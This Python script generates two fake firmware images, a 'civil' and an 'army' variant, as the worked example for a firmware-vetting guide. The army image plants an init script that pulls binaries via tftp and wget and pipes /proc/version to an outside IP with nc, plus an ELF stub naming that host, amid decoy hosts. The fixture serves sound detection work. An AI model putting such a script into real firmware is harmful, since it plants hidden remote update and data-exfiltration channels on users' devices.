#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the images of the worked example of docs/vet.md: firmware as it was delivered to one customer and
as everybody can buy it. firmware.py FOLDER writes army.bin and civil.bin there.

No real firmware: a few files with a server each planted at the places that matter, and decoys."""
import io
import sys
import tarfile
import zipfile
from pathlib import Path

UPDATE = b"""#!/bin/sh
# left over from the bench
tftp -g -r boot.bin 192.168.1.250
wget -q http://fw.camera-cloud.net/new.bin -O /tmp/new.bin
nc 203.0.114.7 8800 < /proc/version
"""
CONFIG = b"""[cloud]
p2p = relay.camera-cloud.net
ntp = pool.ntp.org
upload = 1
"""
LICENCE = b"""Copyright (C) someone. Any questions go to www.licence-house.com; the number of this text
is 1.2.3.4, see also http://www.w3.org/1999/xhtml and example.com.
"""
ADDED = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\0".join(
    [b"socket", b"connect", b"getaddrinfo", b"/home/builder/ipc/src/main.c", b"203.0.114.7", b""])

BUSYBOX = b"\x7fELF\x01\x01\x01" + bytes(9) + b"BusyBox v1.20.2 (2020-03-13 10:00:00 CST)\0Usage: \0"
PRODUCT = b"product_model=HB-IR2030\nfirmware_version=2.4.1 build 200313\n"
PASSWD = b"root:$1$abcdefgh$0123456789abcdefghijk.:0:0:root:/root:/bin/sh\n"


def civilian_members():
    return {"etc/app.conf": CONFIG.replace(b"upload = 1", b"upload = 0"), "bin/busybox": BUSYBOX,
            "etc/product.conf": PRODUCT, "usr/share/doc/COPYING": LICENCE}


def army_members():
    return {"etc/init.d/S99-update": UPDATE, "etc/app.conf": CONFIG, "usr/bin/agent": ADDED,
            "bin/busybox": BUSYBOX, "etc/product.conf": PRODUCT, "etc/passwd": PASSWD,
            "usr/share/doc/COPYING": LICENCE}


def packed(members):
    """A ZIP archive inside a tar archive, nothing compressed and no clock: the same bytes anywhere."""
    inner, outer = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, (2024, 3, 1, 8, 0, 0))
            info.create_system = 3
            info.external_attr = (0o100755 if "/S99" in name or "/bin/" in name else 0o100644) << 16
            z.writestr(info, data)
    with tarfile.open(fileobj=outer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        entry = tarfile.TarInfo("rootfs.zip")
        entry.size = len(inner.getvalue())
        tar.addfile(entry, io.BytesIO(inner.getvalue()))
    return outer.getvalue()


def write(folder):
    for name, members in (("army.bin", army_members()), ("civil.bin", civilian_members())):
        (Path(folder) / name).write_bytes(packed(members))


if __name__ == "__main__":
    write(sys.argv[1])
